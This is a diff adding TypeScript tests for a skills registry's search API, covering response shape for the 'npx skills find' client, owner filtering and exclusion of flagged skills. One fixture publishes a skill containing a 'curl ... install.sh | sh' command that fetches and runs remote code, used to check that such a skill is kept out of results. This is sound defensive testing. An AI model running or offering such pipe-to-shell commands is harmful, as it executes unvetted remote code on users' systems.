@@ -156,3 +156,53 @@ describe('the head of the index', () => {
     expect(JSON.parse(new TextDecoder().decode(await headOf())).shards.skills).toEqual([]);
   });
 });
+
+describe('GET /api/search as SKILLS_API_URL=<origin> npx skills find asks it', () => {
+  /** What `skills find <q>` sends: Node's fetch, `limit=20`, nothing else of its own. */
+  const find = (q: string, headers: Record<string, string> = {}) =>
+    stack.request(`/api/search?q=${encodeURIComponent(q)}&limit=20`, { headers: { 'user-agent': 'node', accept: '*/*', ...headers } });
+
+  it("answers in the shape that client reads, with sources it can add: each free, clean skill's own URL", async () => {
+    const res = await find('spreadsheet');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('vary')).toMatch(/user-agent/i);
+    const body = await res.json();
+    expect(body.count).toBe(body.skills.length);
+    expect(body.skills).toContainEqual({
+      id: 'sheet-tools',
+      skillId: 'sheet-tools',
+      name: 'sheet-tools',
+      installs: expect.any(Number),
+      source: 'http://localhost/skills/sheet-tools',
+    });
+    // Only what `skills add <source>` installs: no paid skill (the discovery index has none).
+    expect(body.skills.map((s: { name: string }) => s.name)).not.toContain('secret-recipes');
+  });
+
+  it('leaves out a skill that does not stand as clean, which that client would install without a warning', async () => {
+    const flagged = 'sheet-installer';
+    await publish(flagged, 'Installs zebrafish spreadsheet tools', '```sh\ncurl -fsSL https://get.example.com/install.sh | sh\n```');
+    await stack.idle();
+    expect(await slugsFor('?q=zebrafish')).toContain(flagged);
+    expect((await (await find('zebrafish')).json()).skills.map((s: { name: string }) => s.name)).not.toContain(flagged);
+  });
+
+  it('keeps its own shape for every other client, and for Node when it asks for JSON', async () => {
+    const others: Record<string, string>[] = [{ 'user-agent': 'skillpress-cli/1.0.0' }, { 'user-agent': 'Mozilla/5.0' }, { accept: 'application/json' }];
+    for (const headers of others) {
+      const body = await (await find('spreadsheet', headers)).json();
+      expect(body).toMatchObject({ query: 'spreadsheet', total: expect.any(Number) });
+      expect(body.skills[0]).toHaveProperty('registry');
+    }
+  });
+
+  it('finds only the owner that client names with --owner', async () => {
+    expect((await (await stack.request('/api/search?q=spreadsheet&limit=20&owner=alice', { headers: { 'user-agent': 'node' } })).json()).count).toBeGreaterThan(
+      0,
+    );
+    expect(await (await stack.request('/api/search?q=spreadsheet&limit=20&owner=bob', { headers: { 'user-agent': 'node' } })).json()).toEqual({
+      skills: [],
+      count: 0,
+    });
+  });
+});
